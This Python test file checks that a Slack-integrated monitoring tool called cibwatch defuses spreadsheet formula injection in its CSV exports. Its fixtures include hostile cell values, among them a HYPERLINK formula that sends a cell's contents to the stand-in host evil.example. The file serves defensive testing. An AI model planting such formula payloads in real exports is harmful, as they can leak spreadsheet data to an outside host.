"""Every CSV cibwatch writes is safe to open in a spreadsheet: the Slack export, the digest's
full list, `cibwatch sweep --out`.

The store holds a coordinated network some of whose members carry hostile data, all
accepted at ingest: handles like `=HYPERLINK(...)`, author ids, post ids and reply or
repost targets starting with `=`, `+`, `-` or `@`. Each CSV is read back as a spreadsheet
would get it.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from decimal import Decimal
from pathlib import Path

import pytest
from client import SlackClient
from factories import write_jsonl
from fakes import FakeSlack
from known import generate_records
from slack_sdk import WebClient

from bot.scheduler import post_digest
from handlers.digest_cards import MAX_ACCOUNTS
from services.spreadsheet import FORMULA_START, defuse
from services.sweeps import SWEEP_CSV_COLUMNS, run_sweep, write_sweep_csv
from storage.db import Store, now_ts, open_store
from storage.ingest import ingest_file

HOSTILE_HANDLES = ['=HYPERLINK("http://evil.example/?c="&A2,"open")', "+SUM(1+1)", "-2+3"]
HOSTILE_AUTHOR_IDS = ["=1+2", "@SUM(A1)", "-1"]
HOSTILE_POST_ID = "=2+5"
HOSTILE_REPLY_TO = "+42"
HOSTILE_REPOST_OF = "@cmd"


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, str, list]]:
    """(store, URL, network handles): a network of MAX_ACCOUNTS + 4, three of them hostile."""
    records, known = generate_records(n_network=MAX_ACCOUNTS + 4)
    renamed = dict(zip(known.network, HOSTILE_HANDLES, strict=False))
    ids = dict(zip(HOSTILE_HANDLES, HOSTILE_AUTHOR_IDS, strict=True))
    for r in records:
        if r["author_handle"] in renamed:
            r["author_handle"] = renamed[r["author_handle"]]
            r["author_id"] = ids[r["author_handle"]]
    first = next(r for r in records if r["author_handle"] == HOSTILE_HANDLES[0])
    first.update(
        post_id=HOSTILE_POST_ID,
        reply_to_post_id=HOSTILE_REPLY_TO,
        repost_of_post_id=HOSTILE_REPOST_OF,
    )
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder / 'store.db'}"
    store = open_store(url)
    report = ingest_file(store, write_jsonl(folder / "posts.jsonl", records))
    assert report.rejected == 0  # ingest takes all of it: the CSVs must cope
    run_sweep(store)
    network = [renamed.get(h, h) for h in known.network]
    yield store, url, network
    store.dispose()


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: none starts with =, +, -, @, tab or CR."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_rule_defuses_text_and_leaves_numbers_alone() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert defuse(text) == "'" + text
    for cell in ("a=b", "x:@=evil", "", "'=already", 5, -0.5, Decimal("-1.000"), None):
        assert defuse(cell) == cell


def test_sweep_out_defuses_handles_and_ids_and_keeps_its_columns(
    hostile_store: tuple[Store, str, list], tmp_path: Path
) -> None:
    store, _, network = hostile_store
    out = tmp_path / "scores.csv"

    assert write_sweep_csv(store, out) >= len(network)

    header, *rows = read_csv(out.read_text(encoding="utf-8"))
    assert tuple(header) == SWEEP_CSV_COLUMNS
    assert_no_formula_cells(rows)
    by_handle = {r[1]: r for r in rows}
    for handle, author_id in zip(HOSTILE_HANDLES, HOSTILE_AUTHOR_IDS, strict=True):
        row = by_handle["'" + handle]
        assert row[2] == "'" + author_id
        assert row[4] == "Likely coordinated" and row[5] != ""
        assert len(row[3]) == 5 and float(row[3]) > 0.5  # the score, as a number: 0.xyz
    assert by_handle[network[5]][1] == network[5]  # ordinary handles untouched


def test_slash_export_defuses_every_cell_of_every_member(
    hostile_store: tuple[Store, str, list],
    fake_slack: FakeSlack,
    start_bot: Callable[..., AbstractContextManager[str]],
    channel: str,
) -> None:
    store, url, network = hostile_store
    with start_bot(store, url) as base_url:
        client = SlackClient(base_url, fake_slack)
        client.command(f"export @{network[5]}", channel=channel)
        (complete,) = fake_slack.wait_for(
            "files.completeUploadExternal", lambda call: call.body.get("channel_id") == channel
        )
        client.http.close()
    files = complete.body["files"]
    (shared,) = json.loads(files) if isinstance(files, str) else files
    header, *rows = read_csv(fake_slack.uploaded_file(shared["id"]).decode("utf-8-sig"))

    assert_no_formula_cells(rows)
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert {c["author_handle"] for c in cells} >= {"'" + h for h in HOSTILE_HANDLES}
    assert {c["author_id"] for c in cells} >= {"'" + i for i in HOSTILE_AUTHOR_IDS}
    (hostile_post,) = [c for c in cells if c["post_id"] == "'" + HOSTILE_POST_ID]
    assert hostile_post["reply_to_post_id"] == "'" + HOSTILE_REPLY_TO
    assert hostile_post["repost_of_post_id"] == "'" + HOSTILE_REPOST_OF


def test_the_digests_full_list_is_defused(
    hostile_store: tuple[Store, str, list], fake_slack: FakeSlack
) -> None:
    store, _, network = hostile_store
    client = WebClient(token="xoxb-test", base_url=fake_slack.api_url)

    outcome = post_digest(store, client, "CCSVDIGEST", now_ts() + 1)

    assert outcome.status == "posted" and outcome.accounts > MAX_ACCOUNTS
    # Only this channel's upload: a bot of an earlier test may still be finishing one.
    (complete,) = fake_slack.wait_for(
        "files.completeUploadExternal", lambda call: call.body.get("channel_id") == "CCSVDIGEST"
    )
    files = complete.body["files"]
    (shared,) = json.loads(files) if isinstance(files, str) else files
    header, *rows = read_csv(fake_slack.uploaded_file(shared["id"]).decode("utf-8"))
    assert_no_formula_cells(rows)
    accounts = {dict(zip(header, row, strict=True))["account"] for row in rows}
    assert {f"x:@{h}" for h in HOSTILE_HANDLES} <= accounts
